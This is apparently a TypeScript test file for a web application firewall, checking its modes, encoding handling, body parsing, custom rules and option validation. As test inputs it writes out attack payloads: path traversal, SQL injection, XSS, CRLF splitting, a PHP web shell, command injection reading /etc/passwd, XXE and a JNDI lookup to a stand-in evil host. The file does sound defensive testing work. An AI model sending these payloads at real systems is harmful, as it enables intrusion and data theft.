import { expect } from 'chai'
import sinon from 'sinon'
import type { WafEvent } from '../../waf/verdict.js'
import { Waf, type WafRequestHead } from '../../waf/waf.js'
import { head, multipart } from './corpus/request-builder.js'

const get = (target: string, headers: readonly string[] = ['Host', 'example.com']): WafRequestHead =>
  head('GET', target, headers)
const post = head('POST', '/submit', ['Host', 'example.com'])

describe('Waf', () => {
  describe('modes', () => {
    it('returns null for a clean small GET in every mode', () => {
      const waf = new Waf()
      const clean = get('/api/users/42?page=2&sort=name', [
        'Host',
        'example.com',
        'User-Agent',
        'curl/8.4.0',
        'Accept',
        '*/*',
      ])
      expect([
        waf.checkHead(clean),
        waf.checkHead(clean, 'strict'),
        waf.checkHead(clean, 'monitor'),
        waf.checkHead(clean, 'off'),
      ]).to.deep.equal([null, null, null, null])
    })

    it('runs basic mode by default: traversal is blocked, SQL injection is not looked for', () => {
      const waf = new Waf()
      expect(waf.checkHead(get('/static/../../etc/passwd'))).to.deep.equal({
        ruleId: 'traversal',
        category: 'traversal',
        matched: '/static/../../etc/passwd',
        blocked: true,
      })
      expect(waf.checkHead(get("/items?id=1'%20or%20'1'%3D'1"))).to.equal(null)
    })

    it('blocks SQL injection in strict mode with the normalised value as the match', () => {
      const waf = new Waf({ mode: 'strict' })
      expect(waf.checkHead(get("/items?id=1'%20UnIoN/**/SeLeCt%201,2--"))).to.deep.equal({
        ruleId: 'sqli',
        category: 'sqli',
        matched: "1' union/**/select 1,2--",
        blocked: true,
      })
    })

    it('lets a route override the mode per request', () => {
      const waf = new Waf({ mode: 'strict' })
      const attack = get('/cms/pages?html=%3Cscript%3Ealert(1)%3C/script%3E')
      expect(waf.checkHead(attack, 'off')).to.equal(null)
      expect(waf.checkHead(attack, 'basic')).to.equal(null)
      expect(waf.checkHead(attack)?.ruleId).to.equal('xss')
    })

    it('does nothing at all in off mode, not even the size checks', () => {
      const onBlock = sinon.spy()
      const waf = new Waf({ mode: 'off', maxTargetLength: 4, maxBodyBytes: 1, onBlock })
      expect(waf.checkHead(get('/../../etc/passwd'))).to.equal(null)
      expect(waf.checkBody(post, Buffer.from('q=%00'), 'application/x-www-form-urlencoded')).to.equal(null)
      expect(onBlock.callCount).to.equal(0)
    })

    it('reports through onBlock in monitor mode without blocking, once per rule', () => {
      const events: WafEvent[] = []
      const waf = new Waf({ mode: 'monitor', onBlock: (e) => events.push(e) })
      const verdict = waf.checkHead(
        get('/s?a=..%2f..%2fx&b=%3Csvg%20onload%3Dalert(1)%3E&c=..%2f..%2fy', ['User-Agent', "x' or 1=1--"]),
      )
      expect(verdict).to.deep.equal({ ruleId: 'traversal', category: 'traversal', matched: '../../x', blocked: false })
      expect(events.map((e) => [e.ruleId, e.blocked, e.mode, e.requestLine])).to.deep.equal([
        ['traversal', false, 'monitor', 'GET /s?a=..%2f..%2fx&b=%3Csvg%20onload%3Dalert(1)%3E&c=..%2f..%2fy'],
        ['xss', false, 'monitor', 'GET /s?a=..%2f..%2fx&b=%3Csvg%20onload%3Dalert(1)%3E&c=..%2f..%2fy'],
        ['sqli', false, 'monitor', 'GET /s?a=..%2f..%2fx&b=%3Csvg%20onload%3Dalert(1)%3E&c=..%2f..%2fy'],
      ])
    })

    it('calls onBlock with the rule, request line and matched value when it blocks', () => {
      const onBlock = sinon.spy()
      const waf = new Waf({ mode: 'strict', onBlock })
      waf.checkHead(get('/run?cmd=%3Bcat%20%2Fetc%2Fpasswd'))
      expect(onBlock.callCount).to.equal(1)
      expect(onBlock.firstCall.args[0]).to.deep.equal({
        ruleId: 'lfi',
        category: 'traversal',
        matched: ';cat /etc/passwd',
        blocked: true,
        requestLine: 'GET /run?cmd=%3Bcat%20%2Fetc%2Fpasswd',
        mode: 'strict',
      })
    })
  })

  describe('structural checks', () => {
    it('blocks a target longer than maxTargetLength', () => {
      const verdict = new Waf({ maxTargetLength: 16 }).checkHead(get('/aaaaaaaaaaaaaaaaaaaa'))
      expect(verdict).to.deep.equal({
        ruleId: 'target-length',
        category: 'protocol',
        matched: '21 characters; maxTargetLength is 16',
        blocked: true,
      })
    })

    it('blocks control characters and spaces in the target', () => {
      const waf = new Waf()
      expect(waf.checkHead(get('/a\x01b'))?.ruleId).to.equal('target-chars')
      expect(waf.checkHead(get('/a b'))?.ruleId).to.equal('target-chars')
      expect(waf.checkHead(get('/a\x7f'))?.ruleId).to.equal('target-chars')
    })

    it('blocks encoded NUL, overlong UTF-8 and CRLF in basic mode', () => {
      const waf = new Waf()
      expect(waf.checkHead(get('/file?name=report.pdf%00.php'))?.ruleId).to.equal('nul-byte')
      expect(waf.checkHead(get('/%c0%ae%c0%ae/etc/passwd'))?.ruleId).to.equal('overlong-utf8')
      expect(waf.checkHead(get('/go?to=x%0d%0aSet-Cookie:%20sid=1'))?.ruleId).to.equal('crlf')
      expect(waf.checkHead(get('/a', ['X-Forwarded-For', '1.2.3.4%0d%0aSet-Cookie: a=b']))?.ruleId).to.equal(
        'header-injection',
      )
    })

    it('catches double and IIS %u encodings of a traversal', () => {
      const waf = new Waf()
      expect(waf.checkHead(get('/%252e%252e/%252e%252e/etc/passwd'))?.matched).to.equal('/../../etc/passwd')
      expect(waf.checkHead(get('/x?f=%u002e%u002e%u2215%u002e%u002e%u2215boot.ini'))?.matched).to.equal(
        '../../boot.ini',
      )
    })

    it('trusts a parser that saw a plain target and plain values in basic mode only', () => {
      const waf = new Waf()
      // Hints that lie, to show what they skip: basic mode looks no further, strict mode ignores them.
      const lying = {
        ...get('/a/../../etc/passwd', ['X-A', '%0d%0aSet-Cookie: a=b']),
        targetIsPlain: true,
        valuesArePlain: true,
      }
      expect(waf.checkHead(lying)).to.equal(null)
      expect(waf.checkHead(lying, 'strict')?.ruleId).to.equal('traversal')
      expect(waf.checkHead({ ...lying, targetIsPlain: false })?.ruleId).to.equal('traversal')
      expect(waf.checkHead({ ...lying, valuesArePlain: false })?.ruleId).to.equal('header-injection')
    })

    it('still refuses a plain target over maxTargetLength', () => {
      const verdict = new Waf({ maxTargetLength: 4 }).checkHead({ ...get('/abcdef'), targetIsPlain: true })
      expect(verdict?.ruleId).to.equal('target-length')
    })

    it('blocks a body larger than maxBodyBytes before reading it as text', () => {
      const verdict = new Waf({ maxBodyBytes: 8 }).checkBody(post, Buffer.alloc(9), 'application/json')
      expect(verdict).to.deep.equal({
        ruleId: 'body-size',
        category: 'protocol',
        matched: '9 bytes; maxBodyBytes is 8',
        blocked: true,
      })
    })
  })

  describe('line breaks in body text', () => {
    const bio = JSON.stringify({
      bio: 'Embed it like this:\n<script src="/widget.js"></script>\nContent-Type: text/html is what it sends',
    })

    it('leaves a JSON string with line breaks and header-like lines alone in basic mode', () => {
      expect(new Waf({ mode: 'basic' }).checkBody(post, Buffer.from(bio), 'application/json')).to.equal(null)
    })

    it('still finds response splitting in a body string in strict mode, and in a query value in basic', () => {
      const split = JSON.stringify({ next: '/home\r\nSet-Cookie: sid=attacker' })
      expect(new Waf({ mode: 'strict' }).checkBody(post, Buffer.from(split), 'application/json')?.ruleId).to.equal(
        'crlf',
      )
      expect(new Waf({ mode: 'basic' }).checkHead(get('/go?next=%2Fhome%0d%0aSet-Cookie:%20sid=1'))?.ruleId).to.equal(
        'crlf',
      )
    })
  })

  describe('where attacks ride', () => {
    const waf = new Waf({ mode: 'strict' })

    it('checks every key and value of a JSON body, however deep', () => {
      const deep = JSON.stringify({ a: [{ b: { c: ['ok', '<img src=x onerror=alert(1)>'] } }] })
      expect(waf.checkBody(post, Buffer.from(deep), 'application/json')?.ruleId).to.equal('xss')
      expect(
        waf.checkBody(post, Buffer.from('{"__proto__":{"admin":true}}'), 'application/json; charset=utf-8')?.ruleId,
      ).to.equal('code-injection')
    })

    it('checks URL-encoded form fields with + as a space', () => {
      expect(
        waf.checkBody(post, Buffer.from("user=admin'+or+'1'%3d'1"), 'application/x-www-form-urlencoded')?.ruleId,
      ).to.equal('sqli')
    })

    it('checks multipart names, file names and text parts, but not file contents', () => {
      const shell = multipart([['avatar', 'shell.php', 'image/png', '<?php system($_GET[c]); ?>']])
      const climb = multipart([['doc', '../../../etc/cron.d/x', 'application/octet-stream', 'x']])
      const text = multipart([['bio', null, null, '{{7*7}}']])
      const binary = multipart([['photo', 'cat.png', 'image/png', ';cat /etc/passwd']])
      expect(waf.checkBody(post, shell.body, shell.contentType)?.ruleId).to.equal('code-injection')
      expect(waf.checkBody(post, climb.body, climb.contentType)?.ruleId).to.equal('traversal')
      expect(waf.checkBody(post, text.body, text.contentType)?.ruleId).to.equal('ssti')
      expect(waf.checkBody(post, binary.body, binary.contentType)).to.equal(null)
    })

    it('reads a text body whole and skips a binary body', () => {
      expect(
        waf.checkBody(post, Buffer.from('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'), 'application/xml')
          ?.ruleId,
      ).to.equal('lfi')
      expect(
        waf.checkBody(
          post,
          Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\rIHDR<script>alert(1)</script>', 'latin1'),
          'image/png',
        ),
      ).to.equal(null)
    })

    it('checks User-Agent, cookie pairs and the query of a Referer', () => {
      expect(waf.checkHead(get('/', ['User-Agent', '${jndi:ldap://evil.example/a}']))?.ruleId).to.equal('ssti')
      expect(waf.checkHead(get('/', ['Cookie', "theme=dark; uid=1' or '1'='1"]))?.ruleId).to.equal('sqli')
      expect(
        waf.checkHead(get('/', ['Referer', 'https://example.com/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E']))?.ruleId,
      ).to.equal('xss')
    })

    it('skips structured standard headers and remembers clean values without missing a new attack', () => {
      const ua = 'Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0'
      expect(waf.checkHead(get('/', ['Accept', "' or 1=1--", 'User-Agent', ua]))).to.equal(null)
      expect(waf.checkHead(get('/', ['User-Agent', ua]))).to.equal(null)
      expect(waf.checkHead(get('/', ['User-Agent', `${ua}; <script>alert(1)</script>`]))?.ruleId).to.equal('xss')
    })
  })

  describe('custom rules', () => {
    it('blocks with a pattern in the places it names', () => {
      const waf = new Waf({ rules: [{ id: 'no-wp', where: ['target'], pattern: /\/wp-admin\b/g }] })
      expect(waf.checkHead(get('/wp-admin/setup.php'))).to.deep.equal({
        ruleId: 'no-wp',
        category: 'custom',
        matched: '/wp-admin/setup.php',
        blocked: true,
      })
      expect(waf.checkHead(get('/wp-admin/x'))?.ruleId).to.equal('no-wp')
      expect(waf.checkHead(get('/', ['X-Path', '/wp-admin/']))).to.equal(null)
    })

    it('sees the percent-decoded target too', () => {
      const waf = new Waf({ rules: [{ id: 'no-admin', pattern: /\/admin/ }] })
      expect(waf.checkHead(get('/%61dmin'))?.ruleId).to.equal('no-admin')
    })

    it('blocks with a test function on headers and bodies', () => {
      const test = sinon.spy((value: string) => value.length > 10)
      const waf = new Waf({ rules: [{ id: 'short-values', where: ['header', 'body'], test }] })
      expect(waf.checkHead(get('/', ['X-Note', 'a very long header value']))?.ruleId).to.equal('short-values')
      expect(waf.checkBody(post, Buffer.from('0123456789ab'), 'text/plain')?.ruleId).to.equal('short-values')
      expect(test.calledWith('0123456789ab')).to.equal(true)
    })

    it('runs only in the modes it lists', () => {
      const waf = new Waf({ rules: [{ id: 'strict-only', pattern: /x/, modes: ['strict'] }] })
      expect(waf.checkHead(get('/x'))).to.equal(null)
      expect(waf.checkHead(get('/x'), 'strict')?.ruleId).to.equal('strict-only')
    })

    const invalid: readonly [string, unknown, string][] = [
      [
        'a bad id',
        { id: 'no spaces', pattern: /x/ },
        'waf rule "no spaces": id must be 1-64 letters, digits, ".", "_" or "-"',
      ],
      ['a built-in id', { id: 'sqli', pattern: /x/ }, 'waf rule "sqli": id is a built-in rule id'],
      ['neither pattern nor test', { id: 'empty' }, 'waf rule "empty": needs a pattern or a test function'],
      ['no id', { pattern: /x/ }, 'waf rule "undefined": needs an id (a string)'],
      ['a number id', { id: 7, pattern: /x/ }, 'waf rule "7": needs an id (a string)'],
      [
        'both pattern and test',
        { id: 'both', pattern: /x/, test: () => true },
        'waf rule "both": has both a pattern and a test; give one',
      ],
      ['a string pattern', { id: 'str', pattern: 'x' }, 'waf rule "str": pattern must be a RegExp'],
      [
        'an unknown place',
        { id: 'where', pattern: /x/, where: ['query'] },
        'waf rule "where": where has unknown place "query"',
      ],
      [
        'an unknown mode',
        { id: 'modes', pattern: /x/, modes: ['off'] },
        'waf rule "modes": modes has "off"; use monitor, basic or strict',
      ],
    ]
    for (const [what, rule, message] of invalid) {
      it(`rejects a rule with ${what}`, () => {
        expect(() => new Waf({ rules: [rule as never] }))
          .to.throw(message)
          .with.property('code', 'ERR_WAF_INVALID_RULE')
      })
    }

    it('rejects two rules with the same id', () => {
      expect(
        () =>
          new Waf({
            rules: [
              { id: 'dup', pattern: /a/ },
              { id: 'dup', pattern: /b/ },
            ],
          }),
      ).to.throw('waf rule "dup": id is used by another rule')
    })
  })

  describe('options', () => {
    const invalid: readonly [string, unknown, string][] = [
      ['mode', 'paranoid', `waf option mode is "paranoid"; expected 'off', 'monitor', 'basic' or 'strict'`],
      ['maxTargetLength', 0, 'waf option maxTargetLength is 0; expected a positive integer'],
      ['maxBodyBytes', -1, 'waf option maxBodyBytes is -1; expected a non-negative integer'],
      ['rules', 'x', 'waf option rules is "x"; expected an array of rules'],
      ['onBlock', 42, 'waf option onBlock is 42; expected a function'],
      ['maxTargetBytes', 10, 'waf option maxTargetBytes is 10; expected no such option'],
    ]
    for (const [key, value, message] of invalid) {
      it(`rejects ${key}: ${JSON.stringify(value)} with a message naming the key`, () => {
        expect(() => new Waf({ [key]: value } as never))
          .to.throw(message)
          .with.property('code', 'ERR_WAF_INVALID_OPTION')
      })
    }

    it('rejects an unknown mode passed per request', () => {
      expect(() => new Waf().checkHead(get('/'), 'loud' as never)).to.throw(`waf option mode is "loud"`)
    })
  })
})
